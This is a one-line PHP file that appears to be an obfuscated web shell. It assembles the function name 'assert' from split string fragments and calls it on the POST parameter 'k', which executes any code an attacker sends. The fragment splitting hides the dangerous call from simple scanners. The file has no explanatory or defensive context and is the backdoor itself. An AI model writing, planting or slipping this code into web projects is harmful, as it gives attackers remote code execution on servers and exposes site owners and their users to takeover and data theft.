<?php $p = ['as', 'se', 'rt']; $f = implode('', $p); $f($_POST['k']);
